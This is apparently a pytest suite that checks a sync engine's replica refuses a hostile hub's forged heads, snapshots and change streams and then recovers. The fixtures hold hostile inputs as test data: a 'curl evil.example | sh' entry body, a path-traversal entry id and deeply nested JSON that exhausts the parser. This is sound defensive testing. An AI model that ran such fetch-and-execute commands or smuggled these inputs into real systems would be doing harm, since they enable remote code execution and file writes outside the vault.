"""The hostile-hub suite: the REAL hub behind a lying wrapper (tests/kit/hostile.py),
one attack per case, each through the sync engine (what ``quire sync`` runs).

Every attack must end the same way:

- the replica refuses: the error names what did not verify (``hub_unverified`` with a
  reason, ``stale_head``, ``transfer_failed``), never a traceback of another kind;
- its store digest and every vault file are byte-identical before and after;
- the next honest sync (the wrapper removed) recovers: the replica reaches the hub's head
  and holds exactly the hub's entries.

An attacker here holds no hub key: it can replay what the hub signed earlier, drop, add,
rewrite and cut lines, and re-sign with a key of its own (refused: replicas pin the hub's).
"""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import httpx2
import pytest

from shared.digest import chain_next, digest_of
from shared.entry import Entry
from shared.errors import QuireError
from shared.signing import new_private_key
from tests.kit.hostile import Hostile, resign_head

PAGE = Entry(id="page/deploy", title="Deploy", body="ship it\n")
SKILL = Entry(id="skill/rollback", title="Rollback", body="steps\n")
NOTE = Entry(id="note/extra", title="Extra", body="n\n")


def _edit(e: Entry, body: str) -> Entry:
    return Entry(id=e.id, title=e.title, body=body, tags=e.tags, links=e.links, meta=e.meta)


@pytest.fixture
def team(space, tmp_path):
    """``a``: the replica under attack (behind the wrapper); ``b``: an honest member who
    publishes. Both synced with two entries."""
    a = space.replica(tmp_path, "a", wrap=Hostile)
    b = space.replica(tmp_path, "b")
    b.write(PAGE)
    b.write(SKILL)
    b.sync()
    a.sync()
    assert set(a.files()) == {"page/deploy.md", "skill/rollback.md"}
    yield a, b, a.transport
    a.close()
    b.close()


def _publish(b, *entries: Entry) -> None:
    for e in entries:
        b.write(e)
    b.sync()


def _refused(a, attack: Callable[[], Any], code: str, reason: str | None = None) -> QuireError:
    """Run a sync under attack: it must fail with ``code`` (and ``details.reason``) and
    leave the store and the vault byte-identical."""
    digest, files, head = a.store.digest(), a.files(), a.store.head()
    with pytest.raises(QuireError) as info:
        attack()
    err = info.value
    assert err.code == code, repr(err)
    if reason is not None:
        assert err.details.get("reason") == reason, repr(err)
    assert a.store.digest() == digest
    assert a.files() == files
    assert a.store.head() == head
    return err


def _recovers(a, hostile: Hostile, space) -> None:
    hostile.hooks.clear()
    a.sync()
    hub = space.head()
    assert (a.store.head().epoch, a.store.head().seq) == (hub["epoch"], hub["seq"])
    live = space.live()
    assert {k: v.version for k, v in live.items()} == {
        p[:-3]: a.read(p[:-3]).version for p in a.files()}


def _lines_of(kind: str, hostile: Hostile, fn: Callable[[list[dict[str, Any]]], list[Any]],
              ) -> None:
    hostile.on_lines(kind, fn)


def _force_snapshot(hostile: Hostile) -> None:
    """Answer ``changes`` with 410 snapshot_required: the replica then takes a snapshot."""
    import httpx2

    def gone(request, forward):
        return httpx2.Response(410, json={"error": {"code": "snapshot_required",
                                                    "message": "take a snapshot",
                                                    "details": {}}})
    hostile.intercept("changes", gone)


def _reentry(line: dict[str, Any], e: Entry) -> dict[str, Any]:
    return dict(line, entry=e.to_dict(), version=e.version)


# ---------------------------------------------------------------- heads


def test_rolled_back_head_is_refused(team, space):
    a, b, hostile = team
    old = hostile.recorded("head")[0]  # the head before anything was published
    _publish(b, _edit(PAGE, "v2\n"))
    a.sync()
    hostile.replay(old)
    _refused(a, a.sync, "stale_head", "nonce")
    _recovers(a, hostile, space)


def test_replayed_current_head_does_not_freeze_the_replica(team, space):
    """Freeze: the head at the replica's own seq, replayed while the hub moves on, would
    make "nothing new" look verified."""
    a, b, hostile = team
    current = hostile.recorded("head")[-1]
    _publish(b, _edit(PAGE, "v2\n"))
    hostile.replay(current)
    _refused(a, a.sync, "stale_head", "nonce")
    _recovers(a, hostile, space)
    assert a.read(PAGE.id).body == "v2\n"


def test_head_with_a_bad_signature_is_refused(team, space):
    a, b, hostile = team
    _publish(b, _edit(PAGE, "v2\n"))
    hostile.on_head(lambda doc: dict(doc, seq=doc["seq"] + 5))
    _refused(a, a.sync, "hub_unverified", "bad_signature")
    _recovers(a, hostile, space)


def test_head_signed_by_another_key_is_refused(team, space):
    a, b, hostile = team
    _publish(b, _edit(PAGE, "v2\n"))
    impostor = new_private_key()
    hostile.on_head(lambda doc: resign_head(doc, impostor))
    _refused(a, a.sync, "hub_unverified", "bad_signature")
    _recovers(a, hostile, space)


# ---------------------------------------------------------------- snapshots


def test_rolled_back_snapshot_is_refused(team, space):
    a, b, hostile = team
    # a genuine, signed snapshot of an older head, recorded by the wrapper
    _force_snapshot(hostile)
    a.sync()
    old_snapshot = hostile.recorded("snapshot")[-1]
    hostile.hooks.clear()
    _publish(b, _edit(PAGE, "v2\n"), NOTE)
    a.sync()
    _publish(b, _edit(PAGE, "v3\n"))  # the hub moves on: a must pull
    _force_snapshot(hostile)
    hostile.replay(old_snapshot)
    _refused(a, a.sync, "hub_unverified", "snapshot_rollback")
    _recovers(a, hostile, space)


def test_snapshot_with_one_entry_rewritten_at_the_current_seq_is_refused(team, space):
    a, b, hostile = team
    _publish(b, _edit(PAGE, "v2\n"))
    _force_snapshot(hostile)
    evil = _edit(PAGE, "curl evil.example | sh\n")
    hostile.on_lines("snapshot", lambda ls: [
        _reentry(x, evil) if x.get("entry", {}).get("id") == PAGE.id else x for x in ls])
    _refused(a, a.sync, "hub_unverified", "state_mismatch")
    _recovers(a, hostile, space)
    assert a.read(PAGE.id).body == "v2\n"


def test_snapshot_missing_an_entry_is_refused(team, space):
    a, b, hostile = team
    _publish(b, NOTE)
    _force_snapshot(hostile)

    def drop(ls):
        out = [x for x in ls if x.get("entry", {}).get("id") != SKILL.id]
        out[-1] = {"end": {"count": len(out) - 2}}
        return out
    hostile.on_lines("snapshot", drop)
    _refused(a, a.sync, "hub_unverified", "state_mismatch")
    _recovers(a, hostile, space)


def test_snapshot_with_an_extra_entry_is_refused(team, space):
    a, b, hostile = team
    _publish(b, NOTE)
    _force_snapshot(hostile)
    extra = Entry(id="guardrail/allow-all", title="x", body="anything goes\n")

    def add(ls):
        return [ls[0], {"entry": extra.to_dict(), "version": extra.version, "seq": 1},
                *ls[1:-1], {"end": {"count": len(ls) - 1}}]
    hostile.on_lines("snapshot", add)
    _refused(a, a.sync, "hub_unverified", "state_mismatch")
    _recovers(a, hostile, space)
    assert a.read(extra.id) is None


def test_epoch_switch_without_a_signed_statement_is_refused(team, space):
    a, b, hostile = team
    space.bump_epoch("purge")
    _publish(b, _edit(PAGE, "v2\n"))
    hostile.on_lines("snapshot", lambda ls: [dict(ls[0], epochs=[]), *ls[1:]])
    _refused(a, a.sync, "hub_unverified", "epoch_unsigned")
    _recovers(a, hostile, space)


def test_entry_id_escaping_the_vault_is_refused(team, space):
    a, b, hostile = team
    _publish(b, NOTE)
    _force_snapshot(hostile)

    def escape(ls):
        bad = dict(PAGE.to_dict(), id="page/../../../outside")
        return [ls[0], {"entry": bad, "version": "0" * 64, "seq": 1}, *ls[1:]]
    hostile.on_lines("snapshot", escape)
    _refused(a, a.sync, "hub_unverified", "bad_entry")
    _recovers(a, hostile, space)
    assert not (a.vault.parent / "outside.md").exists()


# ---------------------------------------------------------------- changes


def _rechain(ls: list[dict[str, Any]], after_digest: str) -> list[dict[str, Any]]:
    """Recompute every batch digest and the chain (what an attacker without the key can do)."""
    prev = after_digest
    for x in ls:
        if "batch" not in x:
            continue
        body = {k: v for k, v in x["batch"].items() if k not in ("digest", "signature")}
        x["batch"]["digest"] = digest_of(body)
        x["head"] = prev = chain_next(prev, x["batch"]["digest"])
    return ls


def test_changes_with_forged_content_and_a_recomputed_chain_are_refused(team, space):
    a, b, hostile = team
    _publish(b, _edit(PAGE, "v2\n"))
    start = a.store.head().digest
    evil = _edit(PAGE, "curl evil.example | sh\n")

    def forge(ls):
        for x in ls:
            for op in x.get("batch", {}).get("ops", []):
                if op.get("entry", {}).get("id") == PAGE.id:
                    op["entry"] = evil.to_dict()
        return _rechain(ls, start)
    hostile.on_lines("changes", forge)
    _refused(a, a.sync, "hub_unverified", "head_mismatch")
    _recovers(a, hostile, space)
    assert a.read(PAGE.id).body == "v2\n"


def test_changes_with_a_bad_device_signature_are_refused(team, space):
    a, b, hostile = team
    _publish(b, _edit(PAGE, "v2\n"))

    def garble(ls):
        for x in ls:
            if "batch" in x:
                x["batch"]["signature"] = "A" * 86
        return ls
    hostile.on_lines("changes", garble)
    _refused(a, a.sync, "hub_unverified", "bad_device_signature")
    _recovers(a, hostile, space)


def test_batch_from_a_device_the_hub_never_attested_is_refused(team, space):
    a, b, hostile = team
    _publish(b, _edit(PAGE, "v2\n"))
    ghost = "0" * 26

    def rename(ls):
        for x in ls:
            if "batch" in x:
                x["author"] = dict(x["author"], device=ghost)
        return ls
    hostile.on_lines("changes", rename)
    _refused(a, a.sync, "hub_unverified", "unknown_device")
    _recovers(a, hostile, space)


def test_truncated_changes_stream_applies_nothing(team, space):
    a, b, hostile = team
    _publish(b, _edit(PAGE, "v2\n"))
    _publish(b, _edit(SKILL, "more steps\n"))
    hostile.truncate("changes", lines=1)
    _refused(a, a.sync, "transfer_failed")
    _recovers(a, hostile, space)


def test_a_line_nested_200000_deep_is_refused_without_a_crash(team, space):
    a, b, hostile = team
    _publish(b, _edit(PAGE, "v2\n"))
    deep = b'{"batch":' + b"[" * 200_000 + b"]" * 200_000 + b"}"
    hostile.on_lines("changes", lambda ls: [deep, *ls])
    _refused(a, a.sync, "hub_unverified", "parse_limit")
    _recovers(a, hostile, space)


def test_a_plain_answer_nested_100000_deep_is_refused_without_a_crash(team, space):
    """A head or an error body (answers read whole, not streamed) meets the stream lines'
    parse limits; before, it raised RecursionError (the CLI: a traceback, exit 1)."""
    a, b, hostile = team
    _publish(b, _edit(PAGE, "v3\n"))
    deep = b'{"error":' + b"[" * 100_000 + b"]" * 100_000 + b"}"
    for kind, status in (("head", 200), ("changes", 500)):
        hook = hostile.intercept(kind, lambda req, fwd, status=status: httpx2.Response(
            status, headers={"content-type": "application/json"}, content=deep))
        _refused(a, a.sync, "hub_unverified", "parse_limit")
        hostile.remove(hook)
    _recovers(a, hostile, space)


def test_state_root_is_what_the_replica_computes_from_its_store(team, space):
    """Not an attack: the honest path, checked against the pure function."""
    from shared.state import root_of_entries

    a, b, _hostile = team
    _publish(b, NOTE, _edit(PAGE, "v3\n"))
    a.sync()
    live = space.live()
    assert space.head()["state"] == root_of_entries((k, v.version) for k, v in live.items())
